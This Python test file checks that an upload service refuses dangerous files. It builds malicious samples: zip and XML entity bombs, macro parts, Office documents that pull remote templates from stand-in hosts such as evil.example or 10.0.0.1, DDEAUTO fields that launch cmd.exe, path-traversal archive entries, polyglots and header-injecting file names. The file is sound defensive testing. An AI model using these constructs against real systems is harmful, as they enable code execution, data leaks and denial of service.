"""Files made to harm are refused with a sentence that says why."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from random import Random
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
import xlsxwriter
from docx import Document

from sapar.core.errors import DomainError
from sapar.files.errors import REASONS, FileDamaged, FileDangerous, FileTypeRefused
from sapar.files.models import StoredFile
from sapar.files.services import safe_name, store
from sapar.files.sniffing import DOCX, ENDINGS, JPEG, PDF, PNG, TEXT, XLSX, Danger, media_type
from sapar.files.workbooks import ODS, XLS, XLSB
from sapar.web.downloads import download_file
from tests.cast import NOW, Cast
from tests.formats.test_expanse import cell, ods, row
from tests.formats.test_old_workbooks import locked, renamed
from tests.formats.test_tables import _label, _sheet, _xls, _xlsb


def office_file(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", parts.pop("document", b"<document/>"))
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def workbook() -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        book.add_worksheet().write("A1", "Partner")
    return out.getvalue()


def document() -> bytes:
    out = io.BytesIO()
    Document().save(out)
    return out.getvalue()


def png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"x"))
        + chunk(b"IEND", b"")
    )


def jpeg(width: int, height: int) -> bytes:
    frame = b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", height, width) + b"\x03" + b"\x01\x11\x00" * 3
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        + frame
        + b"\xff\xda"
        + b"0" * 20
    )


def archive_with(name: str) -> bytes:
    out = io.BytesIO()
    with ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", b"<document/>")
        archive.writestr(name, b"x")
    return out.getvalue()


def fetching(kind: str, target: str, mode: str = "External") -> bytes:
    """A document with a part at another machine."""
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="{mode}"/></Relationships>'
    )
    return office_file(**{"word___rels__settings.xml.rels": relation.encode()})


def old_workbook(kind: int = 0) -> bytes:
    """`kind` of its sheet: 0 holds a table, 1 a program."""
    content = _xls({"S": _sheet(_label(0, 0, "Partner"), _label(1, 0, "Ankara"))})
    return content.replace(
        struct.pack("<BBBB", 0, 0, 1, 0) + b"S", struct.pack("<BBBB", 0, kind, 1, 0) + b"S"
    )


def with_program(content: bytes) -> bytes:
    """A compound file with one more entry, the folder of a program."""
    label = "_VBA_PROJECT_CUR\0".encode("utf-16-le")
    entry = label.ljust(64, b"\0") + struct.pack("<HB", len(label), 1) + bytes(61)
    root = content.index("Root Entry".encode("utf-16-le"))
    return content[: root + 256] + entry + content[root + 256 + len(entry) :]


def open_document(inside: str = "", **parts: bytes) -> bytes:
    out = io.BytesIO()
    with ZipFile(io.BytesIO(ods(row(cell("Partner")) + inside))) as before, ZipFile(out, "w") as after:
        for name in before.namelist():
            after.writestr(name, before.read(name))
        for name, content in parts.items():
            after.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def linked(tag: str, address: str) -> str:
    return f'<table:{tag} xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{address}"/>'


def field(*pieces: str) -> str:
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + "".join(
            piece if piece.startswith("<") else f"<w:r><w:instrText>{piece}</w:instrText></w:r>"
            for piece in pieces
        )
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>7</w:t></w:r>'
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def random_text(megabytes: int) -> str:
    """It cannot be packed much, as a book cannot."""
    return Random(7).randbytes(megabytes * 500_000).hex() + "x" * megabytes * 48_000


def words(inside: str) -> bytes:
    """A document whose one paragraph holds this."""
    name = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return f'<w:document xmlns:w="{name}"><w:body><w:p>{inside}</w:p></w:body></w:document>'.encode()


DDE = "DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc.exe&quot;"
DDE_SHEET = b'<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'

CONTENT_TYPES = b'<Types><Override PartName="/word/document.xml" ContentType="%b"/></Types>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><document>&b;</document>'
)
UTF16 = LAUGHS.decode().replace("?>", ' encoding="UTF-16"?>', 1).encode("utf-16")

BOMBS: dict[str, tuple[Callable[[], bytes], str]] = {
    "zip bomb": (lambda: office_file(document=b"\0" * 40_000_000), "bomb"),
    "ten thousand parts": (lambda: office_file(**{f"word__{n}.xml": b"" for n in range(6_000)}), "bomb"),
    "billion laughs": (lambda: office_file(document=LAUGHS), "entities"),
    "billion laughs in UTF-16": (lambda: office_file(document=UTF16), "entities"),
    "entities in a side part": (
        lambda: office_file(word__styles=b"", **{"word__styles.xml": LAUGHS}),
        "entities",
    ),
    "entities behind a long remark": (
        lambda: office_file(document=b"<!--" + b"x" * 200_000 + b"-->" + LAUGHS.partition(b"?>")[2]),
        "entities",
    ),
    "entities behind many instructions": (
        lambda: office_file(document=b"<?a b?>" * 20_000 + LAUGHS.partition(b"?>")[2]),
        "entities",
    ),
    "document that calls itself one with macros": (
        lambda: office_file(
            **{
                "[Content_Types].xml": CONTENT_TYPES
                % b"application/vnd.ms-word.document.macroEnabled.main+xml"
            }
        ),
        "macros",
    ),
    "macros under another name": (
        lambda: office_file(
            **{"[Content_Types].xml": CONTENT_TYPES % b"application/vnd.ms-office.vbaProject"}
        ),
        "macros",
    ),
    "sheet of macros": (lambda: office_file(**{"xl__macrosheets__sheet1.xml": b"<x/>"}), "macros"),
    "template of the web": (lambda: fetching("attachedTemplate", "https://evil.example/t.dotm"), "elsewhere"),
    "template of a neighbour": (lambda: fetching("attachedTemplate", "\\\\10.0.0.1\\x\\t.dotm"), "elsewhere"),
    "template of a neighbour's file": (
        lambda: fetching("attachedTemplate", "file://///10.0.0.1/x/t.dotm"),
        "elsewhere",
    ),
    "object of the web": (lambda: fetching("oleObject", "HTTP://evil.example/x"), "elsewhere"),
    "frame of the web": (lambda: fetching("frame", "mhtml:https://evil.example/x"), "elsewhere"),
    "object of a program that fetches": (
        lambda: fetching("oleObject", "script:https://evil.example/x.sct"),
        "elsewhere",
    ),
    "object of a library that fetches": (
        lambda: fetching("oleObject", "mk:@MSITStore:\\\\10.0.0.1\\x.chm::/x.htm"),
        "elsewhere",
    ),
    "template behind signs written otherwise": (
        lambda: fetching("attachedTemplate", "%5C%5C10.0.0.1%5Cx%5Ct.dotm"),
        "elsewhere",
    ),
    "template of a host's file": (
        lambda: fetching("attachedTemplate", "file://10.0.0.1/t.dotm"),
        "elsewhere",
    ),
    "picture of a network drive": (lambda: fetching("image", "\\\\10.0.0.1\\x\\p.png"), "elsewhere"),
    "control": (lambda: fetching("control", "activeX/activeX1.xml", "Internal"), "controls"),
    "ribbon of its own": (
        lambda: office_file(
            **{
                "_rels__.rels": b'<Relationships><Relationship Id="r" Target="customUI/ui.xml" Type="http://'
                b'schemas.microsoft.com/office/2007/relationships/ui/extensibility"/></Relationships>'
            }
        ),
        "controls",
    ),
    "field that starts a program": (lambda: office_file(document=words(field(DDE))), "dde"),
    "such a field in pieces": (lambda: office_file(document=words(field(" d", "DeAu", "to c:\\x"))), "dde"),
    "such a field by numbers": (
        lambda: office_file(document=words(field(field("QUOTE 68 68 69"), " c:\\x"))),
        "dde",
    ),
    "such a field within a comparison": (
        lambda: office_file(document=words(field("IF 1 = 1 ", field("DDE &quot;cmd&quot; x"), " 2"))),
        "dde",
    ),
    "such a field at once": (
        lambda: office_file(document=words('<w:fldSimple w:instr=" DDEAUTO cmd"/>')),
        "dde",
    ),
    "such a field that was deleted": (
        lambda: office_file(document=words(field(DDE)).replace(b"instrText", b"delInstrText")),
        "dde",
    ),
    "such a field without its end": (
        lambda: office_file(
            document=words(field(DDE)[: field(DDE).index('<w:r><w:fldChar w:fldCharType="sep')])
        ),
        "dde",
    ),
    "such a field in UTF-16": (
        lambda: office_file(document=words(field(DDE)).decode().encode("utf-16")),
        "dde",
    ),
    "such a field at the foot": (
        lambda: office_file(**{"word__footer1.xml": words(field(DDE))}),
        "dde",
    ),
    "such a field in a part of any name": (
        lambda: office_file(**{"word__text.dat": words(field(DDE))}),
        "dde",
    ),
    "workbook that starts a program": (
        lambda: office_file(**{"xl__workbook.xml": b"<x/>", "xl__externalLinks__1.xml": DDE_SHEET}),
        "dde",
    ),
    "field that takes in a neighbour's file": (
        lambda: office_file(document=words(field("INCLUDETEXT &quot;\\\\\\\\10.0.0.1\\\\x\\\\t.docx&quot;"))),
        "elsewhere",
    ),
    "field that links to an object of the web": (
        lambda: office_file(
            document=words(field("LINK Word.Document.8 &quot;https://evil.example/x&quot; \\a"))
        ),
        "elsewhere",
    ),
    "field in forty megabytes": (
        lambda: office_file(document=words("<w:t>" + random_text(41) + "</w:t>" + field("PAGE"))),
        "bomb",
    ),
    "document within": (lambda: fetching("aFChunk", "afchunk.html", "Internal"), "chunks"),
    "macros": (lambda: office_file(**{"word__vbaProject.bin": b"x"}), "macros"),
    "macros of an old workbook": (lambda: with_program(old_workbook()), "macros"),
    "sheet of macros of an old workbook": (lambda: old_workbook(1), "macros"),
    "old workbook that was cut off": (lambda: old_workbook()[:600], "damaged"),
    "head of an old workbook": (lambda: old_workbook()[:40], "damaged"),
    "old workbook with a password": (locked, "locked"),
    "new workbook with a password": (lambda: renamed(old_workbook(), "EncryptedPackage"), "locked"),
    "macros of a binary workbook": (
        lambda: office_file(**{"xl__workbook.bin": b"", "xl__vbaProject.bin": b"x"}),
        "macros",
    ),
    "macros of an open document": (lambda: open_document(Basic__Standard__Module1_xml=b"<x/>"), "macros"),
    "open document that acts when it is opened": (
        lambda: open_document('<script:event-listener xmlns:script="x"/>'),
        "macros",
    ),
    "open document with a table of the web": (
        lambda: open_document(linked("table-source", "https://evil.example/t.ods")),
        "elsewhere",
    ),
    "open document with a picture of a network drive": (
        lambda: open_document(linked("image", "//10.0.0.1/x/p.png")),
        "elsewhere",
    ),
    "open document that asks a program": (lambda: open_document(linked("dde-source", "")), "elsewhere"),
    "part outside its folder": (lambda: archive_with("../../etc/cron.d/x"), "bomb"),
    "part at the root": (lambda: archive_with("/etc/passwd"), "bomb"),
    "PDF that is also an archive": (lambda: b"%PDF-1.7\n" + document(), "two"),
    "picture that is also an archive": (lambda: png(2, 2) + document(), "two"),
    "picture with a page behind it": (lambda: png(2, 2) + b"<script>alert(1)</script>", "two"),
    "JPEG that is also an archive": (lambda: jpeg(2, 2) + document(), "two"),
    "picture of 2.5 billion pixels": (lambda: png(50_000, 50_000), "pixels"),
    "JPEG of 4 billion pixels": (lambda: jpeg(65_000, 65_000), "pixels"),
}


@pytest.mark.parametrize("what", BOMBS)
def test_bomb_is_refused_with_its_reason_and_nothing_is_kept(cast: Cast, what: str) -> None:
    make, code = BOMBS[what]
    with pytest.raises(FileDangerous) as refused:
        store(make(), "plan.docx", office=cast.office, by=cast.officer, at=NOW)
    assert str(refused.value) == f"“plan.docx” was not taken: {REASONS[code]}"
    assert not StoredFile.objects.exists()


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (workbook(), XLSX),
        (document(), DOCX),
        (png(4000, 3000), PNG),
        (jpeg(4000, 3000), JPEG),
        (b"%PDF-1.7 x", PDF),
        (old_workbook(), XLS),
        (_xlsb("S", [["Partner"]]), XLSB),
        (open_document(linked("image", "Pictures/1.png")), ODS),
    ],
    ids=["xlsx", "docx", "png", "jpeg", "pdf", "xls", "xlsb", "ods"],
)
def test_honest_file_is_known_by_its_content(content: bytes, kind: str) -> None:
    assert media_type(content) == kind


@pytest.mark.parametrize(
    ("content", "error"),
    [
        (b"", FileDamaged),
        (b"MZ\x90\x00" + b"\x00" * 60, FileTypeRefused),
        (b"PK\x03\x04 not an archive", FileTypeRefused),
        (b"<html><script>alert(1)</script></html>", FileTypeRefused),
        (b"\x89PNG\r\n\x1a\n", FileTypeRefused),
        (renamed(old_workbook(), "WordDocument"), FileTypeRefused),
        (old_workbook(), FileTypeRefused),
    ],
)
def test_what_is_no_known_file_is_refused(cast: Cast, content: bytes, error: type[DomainError]) -> None:
    with pytest.raises(error):
        store(content, "x.pdf", office=cast.office, taken=[PDF, PNG, DOCX], by=cast.officer, at=NOW)


@pytest.mark.parametrize("content", [b"PK\x03\x04" + bytes(range(256)) * n for n in (1, 3, 9)])
def test_damaged_archive_does_not_crash(content: bytes) -> None:
    try:
        assert media_type(content) == ""
    except Danger:
        pytest.fail("a damaged archive is no danger")


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\x\\plan.docx", "plan.docx"),
        ("plan\r\nSet-Cookie: x.pdf", "planSet-Cookie: x.pdf"),
        ("fdp.\u202eexe", "fdp.exe"),
        ("..", "file"),
        ("a\x00b.pdf", "ab.pdf"),
        ("келишим 2026.pdf", "келишим 2026.pdf"),
    ],
)
def test_name_steers_nothing(given: str, kept: str) -> None:
    assert safe_name(given) == kept


@pytest.mark.parametrize(
    "content",
    [
        fetching("hyperlink", "https://sapar.example/"),
        fetching("attachedTemplate", "file:///C:/Users/Aigul/AppData/Templates/Normal.dotm"),
        fetching("attachedTemplate", "Normal.dotm"),
        fetching("attachedTemplate", "C:\\Program Files\\Templates\\Letter 2.dotx"),
        fetching("image", "https://sapar.example/logo.png"),
        office_file(document=b"<!-- made by an office program --><document/>"),
        office_file(
            document=words(field('TOC \\o "1-3"', field("PAGEREF _Toc1 \\h"), " \\h") + field("PAGE"))
        ),
        office_file(document=words(field('INCLUDEPICTURE "https://sapar.example/logo.png" \\* MERGEFORMAT'))),
        office_file(document=words(field("INCLUDETEXT C:\\\\Plans\\\\2026.docx"))),
        office_file(
            document=words("<w:t>How DDEAUTO works: a lecture</w:t>" + field("= 1 + ", field("PAGE")))
        ),
    ],
    ids=[
        "link",
        "own template",
        "named template",
        "local template",
        "pasted picture",
        "remark",
        "table of contents",
        "field of a pasted picture",
        "own text",
        "words about fields",
    ],
)
def test_what_office_programs_write_is_taken(content: bytes) -> None:
    assert media_type(content) == DOCX


PROGRAMS = (
    "cv.hta",
    "plan.bat",
    "x.pdf.exe",
    "page.html",
    "drawing.svg",
    "run.cmd",
    "x.js",
    "x.lnk",
    "noending",
)
KINDS = {
    PDF: b"%PDF-1.7 x",
    DOCX: document(),
    XLSX: workbook(),
    PNG: png(2, 2),
    JPEG: jpeg(2, 2),
    TEXT: b"start calc.exe",
    XLS: old_workbook(),
    XLSB: _xlsb("S", [["Partner"]]),
    ODS: open_document(),
}


@pytest.mark.parametrize("given", PROGRAMS)
@pytest.mark.parametrize("kind", KINDS)
def test_name_ends_with_what_the_content_is(cast: Cast, given: str, kind: str) -> None:
    stored = store(KINDS[kind], given, office=cast.office, taken=[kind], by=cast.officer, at=NOW)
    assert stored.name.endswith(ENDINGS[kind])
    old = StoredFile(name=given, media_type=kind, content=stored.content)
    answer = download_file(old)
    assert stored.name in answer["Content-Disposition"]
    assert answer["Content-Disposition"].startswith("attachment")
    assert (answer["X-Content-Type-Options"], answer["Content-Security-Policy"]) == (
        "nosniff",
        "default-src 'none'; sandbox",
    )
